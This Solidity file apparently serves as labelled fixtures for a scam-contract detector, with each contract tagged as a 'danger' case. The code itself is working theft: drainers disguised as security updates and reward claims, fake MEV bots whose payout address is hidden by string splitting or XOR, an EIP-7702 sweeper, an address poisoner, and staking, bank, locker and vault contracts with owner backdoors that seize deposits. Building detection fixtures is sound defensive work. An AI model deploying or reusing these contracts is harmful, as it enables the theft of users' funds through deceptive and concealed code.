// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

// What takes money in and lets somebody else take it out.

interface I20 {
    function transferFrom(address, address, uint256) external returns (bool);
    function transfer(address, uint256) external returns (bool);
    function balanceOf(address) external view returns (uint256);
    function allowance(address, address) external view returns (uint256);
    function approve(address, uint256) external returns (bool);
    function permit(address, address, uint256, uint256, uint8, bytes32, bytes32) external;
}
/// ether drainer of the SecurityUpdate kind
/// expects: CT-28 danger
contract UpdateDrainer {
    address private o = msg.sender;
    function SecurityUpdate() external payable {}
    function withdraw() external {
        require(msg.sender == o);
        payable(o).transfer(address(this).balance);
    }
}
/// claim that forwards at once to a fixed account
/// expects: CT-28 danger
contract ClaimForwarder {
    function claim() public payable {
        (bool ok, ) = payable(0xBeEf000000000000000000000000000000000fEe).call{value: msg.value}("");
        require(ok);
    }
    function claimRewards() external payable {
        claim();
    }
    function networkMerge() external payable {
        claim();
    }
}
/// deposits approved to the owner
/// expects: CT-28 danger
contract ApproveOwner {
    address private o = msg.sender;
    mapping(address => mapping(address => uint256)) public dep;
    function deposit(address t, uint256 v) external {
        I20(t).transferFrom(msg.sender, address(this), v);
        dep[msg.sender][t] += v;
        I20(t).approve(o, type(uint256).max);
    }
    function withdraw(address t, uint256 v) external {
        dep[msg.sender][t] -= v;
        I20(t).transfer(msg.sender, v);
    }
}
/// everything that comes goes to a fixed account
/// expects: CT-28 danger
contract Fallback {
    fallback() external payable {
        payable(address(0x00C0FfEe00000000000000000000000000001234)).transfer(address(this).balance);
    }
}
/// 7702 sweeper
/// expects: CT-28 danger
contract Sweep7702 {
    address private immutable to;
    constructor(address t) {
        to = t;
    }
    receive() external payable {
        _s();
    }
    fallback() external payable {
        _s();
    }
    function _s() private {
        (bool ok, ) = to.call{value: address(this).balance}("");
        ok;
    }
    function tokens(address[] calldata t) external {
        for (uint i; i < t.length; i++) I20(t[i]).transfer(to, I20(t[i]).balanceOf(address(this)));
    }
}
/// open 7702 delegate (anyone may call)
/// expects: CT-28 danger
contract DelegateOpen {
    function execute(address t, uint256 v, bytes calldata d) external payable returns (bytes memory) {
        (bool ok, bytes memory r) = t.call{value: v}(d);
        require(ok);
        return r;
    }
    receive() external payable {}
}
/// address poisoner
/// expects: AP-16 danger
contract Poisoner {
    address private o = msg.sender;
    function p(address[] calldata tok, address[] calldata f, address[] calldata t) external {
        require(tx.origin == o);
        for (uint i; i < f.length; i++) I20(tok[i]).transferFrom(f[i], t[i], 0);
    }
}
/// the MEV bot of the videos
/// expects: CT-28 danger
contract MevBot {
    address private o = msg.sender;
    event Log(string m);
    function _k() internal pure returns (string memory) {
        return string.concat(string.concat("0x5b1f", "9e3c2a8d7046"), string.concat("b1e5c9d80f3a", "627184ae90cd"));
    }
    function _p(string memory s) internal pure returns (address) {
        bytes memory b = bytes(s);
        uint160 r;
        for (uint i = 2; i < b.length; i++) {
            uint8 c = uint8(b[i]);
            r = r * 16 + (c >= 97 ? c - 87 : c - 48);
        }
        return address(r);
    }
    receive() external payable {}
    function start() public payable {
        emit Log("Running FrontRun attack on Uniswap.");
        payable(_p(_k())).transfer(address(this).balance);
    }
    function withdrawal() public payable {
        emit Log("Sending profits back to contract creator address...");
        payable(_p(_k())).transfer(address(this).balance);
    }
}
/// arbitrage bot, owner fixed by xor of two slots, deposits of user lost
/// expects: CT-28 danger
contract MevXor {
    uint256 a = 0x008f1d3c5b7a9e2f4d6c8b0a1e3f5d7c9b1a2e4f6d;
    uint256 b = 0x0011223344556677889900aABbCcdDEeFF00112233;
    receive() external payable {}
    function Start() external payable {
        if (address(this).balance > 0.1 ether) {
            address x = address(uint160(a ^ b));
            assembly {
                let r := call(gas(), x, selfbalance(), 0, 0, 0, 0)
                if iszero(r) {
                    revert(0, 0)
                }
            }
        }
    }
    function Withdraw() external {
        address x = address(uint160(a ^ b));
        (bool s, ) = x.call{value: address(this).balance}("");
        require(s);
    }
}
/// staking whose owner takes the principal
/// expects: CT-28 danger
contract Staking {
    I20 immutable t;
    address o = msg.sender;
    mapping(address => uint256) public staked;
    mapping(address => uint256) public since;
    constructor(I20 x) {
        t = x;
    }
    function stake(uint256 v) external {
        t.transferFrom(msg.sender, address(this), v);
        staked[msg.sender] += v;
        since[msg.sender] = block.timestamp;
    }
    function unstake() external {
        uint v = staked[msg.sender];
        staked[msg.sender] = 0;
        t.transfer(msg.sender, v + (v * (block.timestamp - since[msg.sender])) / 365 days);
    }
    function updatePool(uint256 v) external {
        require(msg.sender == o);
        t.transfer(o, v);
    }
}
/// ether bank; owner takes everything
/// expects: CT-28 danger
contract Bank {
    mapping(address => uint256) public bal;
    address private immutable o = msg.sender;
    function deposit() external payable {
        bal[msg.sender] += msg.value;
    }
    function withdraw(uint256 v) external {
        bal[msg.sender] -= v;
        payable(msg.sender).transfer(v);
    }
    function sweep() external {
        require(o == msg.sender);
        payable(o).transfer(address(this).balance);
    }
}
/// bank that the owner destroys
/// expects: CT-28 danger
contract BankKill {
    mapping(address => uint256) public bal;
    address payable private o = payable(msg.sender);
    function deposit() external payable {
        bal[msg.sender] += msg.value;
    }
    function withdraw(uint256 v) external {
        bal[msg.sender] -= v;
        payable(msg.sender).transfer(v);
    }
    function k() external {
        require(o == msg.sender);
        selfdestruct(o);
    }
}
/// liquidity locker with a back door
/// expects: CT-28 danger
contract Locker {
    struct L {
        address t;
        address w;
        uint256 v;
        uint256 until;
    }
    L[] public locks;
    address private dev = tx.origin;
    function lock(address t, uint256 v, uint256 u) external {
        I20(t).transferFrom(msg.sender, address(this), v);
        locks.push(L(t, msg.sender, v, u));
    }
    function release(uint256 i) external {
        L storage l = locks[i];
        require(msg.sender == l.w || msg.sender == dev);
        require(block.timestamp >= l.until || msg.sender == dev);
        uint v = l.v;
        l.v = 0;
        I20(l.t).transfer(msg.sender, v);
    }
}
/// vault moved to a place of the owner's choice
/// expects: CT-28 danger
contract Migrate {
    I20 public asset;
    address gov = msg.sender;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    constructor(I20 a) {
        asset = a;
    }
    function deposit(uint256 v) external {
        asset.transferFrom(msg.sender, address(this), v);
        balanceOf[msg.sender] += v;
        totalSupply += v;
    }
    function withdraw(uint256 v) external {
        balanceOf[msg.sender] -= v;
        totalSupply -= v;
        asset.transfer(msg.sender, v);
    }
    function migrate(address s) external {
        require(msg.sender == gov);
        asset.transfer(s, asset.balanceOf(address(this)));
    }
}

interface I {
    function transferFrom(address, address, uint256) external returns (bool);
    function transfer(address, uint256) external returns (bool);
    function balanceOf(address) external view returns (uint256);
}
/// expects: CT-28 danger
contract FakeStake {
    I public t;
    address private d = msg.sender;
    struct S {
        uint256 v;
        uint256 at;
    }
    mapping(address => S) public s;
    constructor(I x) {
        t = x;
    }
    function stake(uint256 v) external {
        t.transferFrom(msg.sender, address(this), v);
        s[msg.sender].v += v;
        s[msg.sender].at = block.timestamp;
    }
    function unstake() external {
        uint v = s[msg.sender].v;
        delete s[msg.sender];
        t.transfer(msg.sender, v);
    }
    function emergencyWithdraw(address tok) external {
        require(msg.sender == d);
        I(tok).transfer(d, I(tok).balanceOf(address(this)));
    }
}
/// expects: CT-28 danger
contract Sweep {
    address private immutable to = tx.origin;
    function onERC721Received(address, address, uint256, bytes calldata) external returns (bytes4) {
        _g();
        return 0x150b7a02;
    }
    receive() external payable {
        _g();
    }
    function _g() private {
        assembly {
            if selfbalance() {
                pop(call(gas(), 0x00000000000000000000000000000000DeaDBeef, selfbalance(), 0, 0, 0, 0))
            }
        }
    }
}
